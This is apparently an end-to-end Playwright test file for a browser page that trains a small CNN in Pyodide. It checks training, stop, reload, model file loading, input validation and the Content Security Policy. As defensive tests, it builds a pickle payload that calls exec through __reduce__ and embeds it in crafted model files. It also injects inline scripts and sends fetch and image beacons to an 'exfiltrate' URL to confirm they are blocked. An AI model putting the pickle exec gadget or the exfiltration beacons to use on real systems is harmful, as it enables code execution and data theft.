"""The page in real Chromium against the built site: load, train, stop, persist, files, validation.

Each test gets its page from a fixture (tests/e2e/conftest.py) and passes alone.
"""
import builtins
import os
import pickle

import numpy as np
import pytest
from playwright.sync_api import expect


import pycnn  # the checkout's library, to craft model files
from e2e_support import python_worker
from model_files import npy, npy_with_header, with_config, with_member  # tests/, on the import path (pyproject's pythonpath)
from pycnn.presets import DEFAULT_PRESET, PRESETS

FIRST_FILTERS = PRESETS[DEFAULT_PRESET]["layers"][0]["config"]["filters"]  # of the page's default network

# 1 epoch on 2,000 digits; batch 16 and lr 0.01 reach ~88-90% held-out in CPython over seeds
QUICK_RUN = {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.01"}
# 8 batches: a trained model in about a second
TINY_RUN = {"epochs-input": "1", "train-size-input": "256", "batch-size-input": "32", "learning-rate-input": "0.01"}


def filter_images(app):
    return app.page.eval_on_selector_all('[data-testid="filters"] canvas', "cs => cs.map(c => c.toDataURL())")


def foreign_requests(app):
    return [u for u in app.log.requests if not u.startswith(app.url) and not u.startswith(("data:", "blob:"))]


def test_page_reaches_ready_without_errors_and_only_talks_to_its_origin(first_visit):
    app = first_visit
    page = app.page
    assert app.body("state") == "ready"
    stages = page.eval_on_selector_all('[data-testid="stages"] li', "ls => ls.map(l => [l.dataset.stage, l.dataset.status])")
    assert stages == [[s, "done"] for s in ("python", "numpy", "pycnn", "data", "ready")]
    assert app.measurements()["load_ms"] > 0
    # a first visit starts Python the slow way and keeps a memory snapshot for the next one
    assert app.attr("status", "data-python-snapshot") == "saved"
    assert app.log.console_errors == [] and app.log.page_errors == []
    assert app.probe()["csp"] == []
    assert app.log.requests, "no requests were seen"
    assert foreign_requests(app) == []
    assert any(u.endswith("pyodide.asm.wasm") for u in app.log.requests)
    assert any("/wheels/pycnn-" in u for u in app.log.requests)
    # the wheel is unpacked as it is: micropip (and its packaging dependency) are not loaded
    assert not any("/pyodide/micropip-" in u or "/pyodide/packaging-" in u for u in app.log.requests)
    csp = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    assert "default-src 'self'" in csp and "'unsafe-eval'" not in csp and "'unsafe-inline'" not in csp


def test_untrained_model_says_so_and_estimates_an_epoch(app):
    assert app.body("model") == "untrained"
    assert "Untrained model" in app.by_id("model-state").inner_text()
    assert app.attr("accuracy", "data-val-accuracy") == ""
    app.page.wait_for_selector('[data-testid="estimate"][data-seconds-per-epoch]', state="attached", timeout=60_000)
    assert float(app.attr("estimate", "data-seconds-per-epoch")) > 0
    assert len(app.page.query_selector_all('[data-testid="filters"] canvas')) == FIRST_FILTERS


@pytest.mark.parametrize("testid, value", [
    ("epochs-input", ""), ("epochs-input", "0"), ("epochs-input", "-1"), ("epochs-input", "2.5"), ("epochs-input", "1e9"),
    ("batch-size-input", "0"), ("batch-size-input", "5000"),
    ("learning-rate-input", ""), ("learning-rate-input", "NaN"), ("learning-rate-input", "abc"),
    ("learning-rate-input", "-0.1"), ("learning-rate-input", "0"), ("learning-rate-input", "1e6"),
    ("train-size-input", "0"), ("train-size-input", "100000"), ("seed-input", "-1"), ("seed-input", "1.5"),
])
def test_invalid_input_disables_train_with_a_message(app, testid, value):
    app = app
    field = app.by_id(testid)
    error = app.by_id(testid.replace("-input", "-error"))
    good = field.input_value()
    points = app.attr("loss-chart", "data-points")
    field.fill(value)
    expect(app.by_id("train-button")).to_be_disabled()
    expect(error).to_be_visible()
    assert error.inner_text().strip()
    expect(field).to_have_attribute("aria-invalid", "true")
    app.page.evaluate("document.getElementById('train-form').requestSubmit()")  # Enter key path: nothing is sent
    assert app.body("state") == "ready"
    assert app.attr("loss-chart", "data-points") == points
    field.fill(good)
    expect(app.by_id("train-button")).to_be_enabled()
    expect(error).to_be_hidden()


def test_the_form_checks_the_limits_python_publishes(app):
    """The bounds come from TrainingConfig.limits() (no copy in JavaScript): the largest value
    Python accepts is accepted, one more is refused with Python's bound in the message."""
    app = app
    limits = pycnn.TrainingConfig.limits()
    for testid, name, label in (("epochs-input", "epochs", "Epochs"), ("batch-size-input", "batch_size", "Batch size")):
        highest = limits[name]["max"]
        field = app.by_id(testid)
        good = field.input_value()
        assert field.get_attribute("max") == str(highest)  # the spinner's range too
        app.fill({testid: str(highest + 1), "train-size-input": "8500"})
        expect(app.by_id(testid.replace("-input", "-error"))).to_have_text(f"{label} must be at most {highest:,}")
        app.fill({testid: str(min(highest, 8500))})
        expect(app.by_id("train-button")).to_be_enabled()
        app.fill({testid: good})


def test_batch_larger_than_training_set_is_refused(app):
    app = app
    app.fill({"train-size-input": "20", "batch-size-input": "32"})
    expect(app.by_id("train-button")).to_be_disabled()
    expect(app.by_id("batch-size-error")).to_contain_text("training digits")
    app.fill({"train-size-input": "8500", "batch-size-input": "32"})
    expect(app.by_id("train-button")).to_be_enabled()


def test_train_one_epoch_on_2000_digits(app):
    page = app.page
    before = filter_images(app)
    app.fill(QUICK_RUN)
    app.by_id("train-button").click()
    app.wait_state("training", timeout=10_000)
    app.wait_run_result("finished")
    page.wait_for_function("() => document.querySelector('[data-testid=loss-chart]').dataset.points === '125'")

    chart = app.by_id("loss-chart")
    assert float(chart.get_attribute("data-last-loss")) < float(chart.get_attribute("data-first-loss"))
    assert app.attr("accuracy-chart", "data-points") == "1"
    accuracy = float(app.attr("accuracy", "data-val-accuracy"))
    assert accuracy >= 0.85
    assert app.by_id("accuracy").inner_text() == f"{accuracy * 100:.1f}%"
    assert app.attr("progress", "data-epoch") == "1" and app.attr("progress", "data-step") == "125"
    after = filter_images(app)
    assert len(after) == FIRST_FILTERS and sum(a != b for a, b in zip(before, after)) >= FIRST_FILTERS - 2
    assert app.body("model") == "trained"
    expect(app.by_id("model-state")).to_contain_text("Trained for 1 epoch on 2,000 digits")
    # Python's memory in the worker (wasm memory never shrinks): measured 80 MiB at ready, 96 MiB after the default run
    heap = app.measurements()["worker_heap_bytes"]
    assert 50 * 2**20 < heap < 200 * 2**20, f"worker heap {heap / 2**20:.0f} MiB"
    print(f"\ntrained at {app.attr('progress', 'data-images-per-second')} images/s")
    assert app.log.console_errors == [] and app.log.page_errors == []
    expect(app.by_id("confusion-matrix")).to_have_attribute("data-total", "1500")  # the page is complete
    app.screenshot("trained-page.png")


def test_stop_during_an_epoch_lands_within_one_batch_and_keeps_the_model(app):
    page = app.page
    app.fill({"epochs-input": "2", "train-size-input": "8500", "batch-size-input": "32", "learning-rate-input": "0.002"})
    app.by_id("train-button").click()
    app.wait_state("training", timeout=10_000)
    page.wait_for_function("() => Number(document.querySelector('[data-testid=progress]').dataset.step) >= 20", timeout=60_000)
    app.by_id("stop-button").click()
    app.wait_run_result("stopped", timeout=30_000)
    progress = app.by_id("progress")
    step = int(progress.get_attribute("data-step"))
    per_epoch = int(progress.get_attribute("data-batches-per-epoch"))
    assert 20 <= step < per_epoch, "stopped inside the first epoch"
    after_stop = int(progress.get_attribute("data-batches-after-stop"))
    print(f"\nstop: {after_stop} batch(es) finished after the click, ready again after "
          f"{app.measurements()['stop_latency_ms']} ms")
    # Counted by the worker: batches that ended after the page sent `stop` (the two share a clock).
    # The worker trains one batch per call and looks at its messages in between: only the batch
    # in flight when the click came may finish.
    assert after_stop <= 1
    expect(app.by_id("progress")).to_contain_text(f"Epoch 1 of 2 · batch {step} of {per_epoch}")
    # the model is kept: trained for part of an epoch, its accuracy shown, Train continues from it
    expect(app.by_id("model-state")).to_contain_text("Trained for part of an epoch")
    expect(app.by_id("model-state")).to_contain_text("stopped part-way through an epoch")
    assert app.body("model") == "trained"
    assert float(app.attr("accuracy", "data-val-accuracy")) > 0.2  # 20-odd batches: well above 10% guessing
    assert not app.by_id("train-button").is_disabled()
    assert app.log.console_errors == []


def test_stop_at_an_epoch_end_says_whole_epochs(app):
    """One batch per epoch: every call ends an epoch (with a held-out evaluation), so Stop lands
    between epochs; the page must not call the model part-way through one."""
    app.fill({"epochs-input": "50", "train-size-input": "32", "batch-size-input": "32"})
    app.by_id("train-button").click()
    app.page.wait_for_function("() => Number(document.querySelector('[data-testid=progress]').dataset.step) >= 5",
                               timeout=60_000)
    app.by_id("stop-button").click()
    app.wait_run_result("stopped", timeout=30_000)
    epochs = int(app.attr("progress", "data-step"))
    expect(app.by_id("progress")).to_contain_text(f"Epoch {epochs} of 50 · batch 1 of 1")
    expect(app.by_id("model-state")).to_contain_text(f"Trained for {epochs} epochs")
    expect(app.by_id("model-state")).not_to_contain_text("part-way")


def test_reload_restores_the_trained_model(app):
    app.train(TINY_RUN)
    app.wait_saved(1)
    accuracy = app.attr("accuracy", "data-val-accuracy")
    points = app.attr("loss-chart", "data-points")
    assert points == "8"
    filters = filter_images(app)
    app.page.reload()
    app.wait_state("ready")
    # Python came back from the snapshot of the first load; everything below runs on it
    assert app.attr("status", "data-python-snapshot") == "restored"
    assert app.body("model") == "restored"
    expect(app.by_id("model-state")).to_contain_text("Restored from this browser's storage (trained 1 epoch")
    assert app.attr("accuracy", "data-val-accuracy") == accuracy
    assert app.attr("loss-chart", "data-points") == points
    assert app.attr("accuracy-chart", "data-points") == "1"
    app.page.wait_for_function("() => document.querySelector('[data-testid=filters]').dataset.version !== '0'")
    assert filter_images(app) == filters
    assert app.log.page_errors == [] and app.log.console_errors == []
    assert foreign_requests(app) == []  # the reload too fetched everything from the site


def test_download_then_load_round_trips(app, tmp_path):
    app.train(TINY_RUN)
    accuracy = app.attr("accuracy", "data-val-accuracy")
    with app.page.expect_download() as info:
        app.by_id("download-model").click()
    download = info.value
    assert download.suggested_filename == "pycnn-model.npz"
    path = tmp_path / "model.npz"
    download.save_as(path)
    assert path.stat().st_size > 1000
    assert pycnn.load(str(path)).get_config() == pycnn.presets.preset(DEFAULT_PRESET).get_config()  # the page's network, in CPython

    app.by_id("reset-button").click()
    app.page.wait_for_selector('body[data-model="untrained"]', state="attached")
    expect(app.by_id("accuracy")).to_have_attribute("data-val-accuracy", "")  # redrawn in the next frame

    app.load_model(path)
    assert app.attr("accuracy", "data-val-accuracy") == accuracy
    assert "model.npz" in app.by_id("model-state").inner_text()


# ---- model files crafted like tests/test_serialize.py's, for the page ----
GOOD_MODEL = pycnn.seed_model(seed=0).to_bytes()


def _bad_weights(name, shape, value):
    array = np.ones(shape, np.float32)
    array.flat[3] = value
    return with_member(GOOD_MODEL, name, npy(array))


# Unpickling runs this code: in Pyodide it sets a global of the worker, in CPython a builtin.
PWN_CODE = ("import builtins; builtins.PYCNN_PWNED = True\n"
            "try:\n    import js; js.pycnn_pwned = True\nexcept ImportError:\n    pass")


class Pwn:
    def __reduce__(self):
        return exec, (PWN_CODE,)


def _pickled_weights():
    payload = np.empty(10, dtype=object)
    payload[:] = [Pwn()] * 10
    return with_member(GOOD_MODEL, "0.b.npy", npy(payload, allow_pickle=True))


THREE_CLASSES = pycnn.Sequential([pycnn.Conv2D(1, 4, 3), pycnn.ReLU(), pycnn.MaxPool2D(2), pycnn.Flatten(),
                                  pycnn.Dense(4 * 13 * 13, 3)], seed=0, input_shape=(1, 28, 28)).to_bytes()
SMALL_IMAGES = pycnn.Sequential([pycnn.Flatten(), pycnn.Dense(16 * 16, 10)], seed=0, input_shape=(1, 16, 16)).to_bytes()
BAD_FILES = [  # (file name, content or a size in bytes for a sparse file on disk, what the message says)
    ("random.npz", os.urandom(4096), "not a pycnn model file"),
    ("empty.npz", b"", "the file is empty"),
    ("text.npz", b"this is not a model\n" * 50, "not a pycnn model file"),
    ("fake-zip.npz", b"PK\x03\x04" + b"\x00" * 200, "not a valid pycnn model file"),
    ("version-2.npz", with_config(GOOD_MODEL, lambda c: c.update(version=2)), "unsupported model format version 2"),
    ("wrong-layer-shapes.npz", with_config(GOOD_MODEL, lambda c: c["layers"][4]["config"].update(in_features=1000)),
     "Dense expects input of shape (1000,), got (1690,)"),
    ("wrong-weight-shape.npz", with_member(GOOD_MODEL, "4.W.npy", npy(np.zeros((10, 1690), np.float32))),
     "4.W.npy: shape must be (1690, 10), got (10, 1690)"),
    ("three-classes.npz", THREE_CLASSES, "does not fit the page: it has 3 classes, the page needs 10"),
    ("16x16-images.npz", SMALL_IMAGES, "does not fit the page: it reads images of shape (1, 16, 16)"),
    ("nan-weights.npz", _bad_weights("0.W.npy", (10, 1, 3, 3), np.nan), "0.W.npy: weights contain NaN or infinity"),
    ("inf-weights.npz", _bad_weights("4.b.npy", (10,), np.inf), "4.b.npy: weights contain NaN or infinity"),
    ("billion-elements.npz",
     with_member(GOOD_MODEL, "4.W.npy", npy_with_header("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000,), }", bytes(1000))),
     "4.W.npy: shape must be (1690, 10), got (1000000000,)"),
    ("pickled-weights.npz", _pickled_weights(), "0.b.npy: dtype must be float32"),
    ("model.pkl", pickle.dumps(Pwn()), "not a pycnn model file"),
    # over pycnn's 64 MiB limit, which the page reads from Python: refused before the file is read
    ("70mb.npz", 70 * 2 ** 20, "the file is 73 MB; a pycnn model file is at most 67 MB"),
    ("200mb.npz", 200 * 2 ** 20, "the file is 210 MB; a pycnn model file is at most 67 MB"),
]


def test_the_pickle_payload_runs_when_unpickled():
    """Control for the pickle rows below: this payload does run code when something unpickles it."""
    try:
        pickle.loads(pickle.dumps(Pwn()))
        assert builtins.PYCNN_PWNED is True
    finally:
        builtins.__dict__.pop("PYCNN_PWNED", None)


@pytest.mark.parametrize("name, payload, reason", BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
def test_bad_model_file_is_refused_with_a_message_and_the_model_kept(trained_app, name, payload, reason, tmp_path):
    app = trained_app
    accuracy = app.attr("accuracy", "data-val-accuracy")
    if isinstance(payload, int):
        path = tmp_path / name
        with open(path, "wb") as f:
            f.truncate(payload)  # sparse: costs no disk; the page refuses it by its size
        app.by_id("load-model").set_input_files(str(path))
    else:
        app.by_id("load-model").set_input_files(files=[{"name": name, "mimeType": "application/octet-stream", "buffer": payload}])
    message = app.by_id("message")
    app.page.wait_for_selector('[data-testid="message"][data-kind="error"]', state="visible", timeout=30_000)
    text = message.inner_text()
    assert text.startswith(f"Could not load {name}: ") and text.rstrip("×").strip().endswith("Your current model is unchanged.")
    assert reason in text
    assert app.attr("accuracy", "data-val-accuracy") == accuracy
    assert app.body("model") == "loaded" and app.body("state") == "ready"
    # no code ran in the workers (the pickle rows would have set this global when unpickled)
    untouched = [w.evaluate("() => self.pycnn_pwned === undefined") for w in app.page.workers]
    assert untouched and all(untouched)
    message.locator(".dismiss").click()


def test_truncated_model_file_is_refused(trained_app, cli_model):
    app = trained_app
    data = cli_model.read_bytes()
    accuracy = app.attr("accuracy", "data-val-accuracy")
    app.by_id("load-model").set_input_files(files=[{"name": "cut.npz", "mimeType": "application/octet-stream", "buffer": data[: len(data) // 2]}])
    app.page.wait_for_selector('[data-testid="message"][data-kind="error"]', state="visible", timeout=30_000)
    expect(app.by_id("message")).to_contain_text("Could not load cut.npz")
    assert app.attr("accuracy", "data-val-accuracy") == accuracy
    app.by_id("message").locator(".dismiss").click()


def test_diverging_run_is_stopped_and_the_weights_restored(trained_app):
    app = trained_app
    accuracy = app.attr("accuracy", "data-val-accuracy")
    app.train({"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "32", "learning-rate-input": "10"},
              result="diverged")
    message = app.by_id("message")
    expect(message).to_have_attribute("data-kind", "warning")
    expect(message).to_contain_text("smaller learning rate")
    assert app.attr("accuracy", "data-val-accuracy") == accuracy  # back to the weights the run started from
    assert app.body("model") == "loaded"


def test_train_pressed_twice_starts_one_run(app):
    app.fill(TINY_RUN)
    app.by_id("train-button").dblclick()
    app.wait_run_result("finished")
    app.page.wait_for_function("() => document.querySelector('[data-testid=loss-chart]').dataset.points === '8'")
    assert app.attr("accuracy-chart", "data-points") == "1"  # 256 digits / 32 per batch, once
    expect(app.by_id("message")).to_be_hidden()


def test_reload_mid_epoch_restores_the_last_completed_epoch(app):
    page = app.page
    app.fill({"epochs-input": "3", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.002"})
    app.by_id("train-button").click()
    app.wait_state("training", timeout=10_000)
    # the first epoch done and saved (the checkpoint follows the epoch message), the second under way
    page.wait_for_function("() => Number(document.querySelector('[data-testid=accuracy-chart]').dataset.points) === 1"
                           " && Number(document.querySelector('[data-testid=progress]').dataset.step) > 135", timeout=120_000)
    saved_accuracy = app.attr("accuracy-chart", "data-last-val-accuracy")
    page.reload()
    app.wait_state("ready")
    assert app.body("model") == "restored"
    assert app.attr("accuracy-chart", "data-points") == "1"
    assert float(app.attr("accuracy", "data-val-accuracy")) == pytest.approx(float(saved_accuracy), abs=1e-9)


def test_csp_is_in_force_in_the_page_and_the_worker(app):
    """Provokes violations on purpose. The meta tag and build.py's header each enforce the
    policy, so one blocked action can be reported once per policy."""
    page = app.page
    header = page.evaluate("fetch(location.href).then(r => r.headers.get('content-security-policy'))")
    meta = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    for policy in (header, meta):
        assert "default-src 'self'" in policy and "script-src 'self' 'wasm-unsafe-eval'" in policy
        assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    outcome = page.evaluate("""async () => {
      // resolves when the browser reports the directive violated (after 10 s without: a failure)
      const violated = (directive) => Promise.race([
        new Promise((resolve) => document.addEventListener('securitypolicyviolation',
          (e) => { if (e.violatedDirective.startsWith(directive)) resolve(); })),
        new Promise((resolve) => setTimeout(resolve, 10000))]);
      const scriptBlocked = violated('script-src-elem'), handlerBlocked = violated('script-src-attr');
      const imageBlocked = violated('img-src');
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.head.appendChild(s);  // an injected inline script
      const attr = document.createElement('div');
      attr.setAttribute('onclick', 'window.__handlerRan = true');
      document.body.appendChild(attr);
      attr.click();  // an inline event handler
      let fetched;
      try { await fetch('http://127.0.0.2:9/exfiltrate'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
      const img = new Image();
      img.src = 'http://127.0.0.2:9/pixel.png';  // a beacon as an image
      await Promise.all([scriptBlocked, handlerBlocked, imageBlocked]);
      attr.remove(); s.remove();
      return { inline: window.__inlineRan === true, handler: window.__handlerRan === true, fetched };
    }""")
    assert outcome == {"inline": False, "handler": False, "fetched": "blocked"}
    directives = {v.split(" ")[0] for v in app.probe()["csp"]}
    assert {"script-src-elem", "script-src-attr", "connect-src", "img-src"} <= directives, app.probe()["csp"]
    # the worker runs under the header's policy: it cannot reach another origin either
    worker = python_worker(page)
    blocked = worker.evaluate("""async () => {
      const seen = [];
      const reported = Promise.race([  // the report, or 10 s without one (then `seen` stays empty)
        new Promise((resolve) => self.addEventListener('securitypolicyviolation', (e) => {
          seen.push(e.violatedDirective);
          resolve();
        })),
        new Promise((resolve) => setTimeout(resolve, 10000))]);
      try { await fetch('http://127.0.0.2:9/exfiltrate'); return ['sent', seen]; }
      catch (e) { await reported; return ['blocked', seen]; }
    }""")
    assert blocked[0] == "blocked" and "connect-src" in blocked[1]
    print(f"\nCSP violations recorded in the page: {app.probe()['csp']}; in the worker: {blocked[1]}")
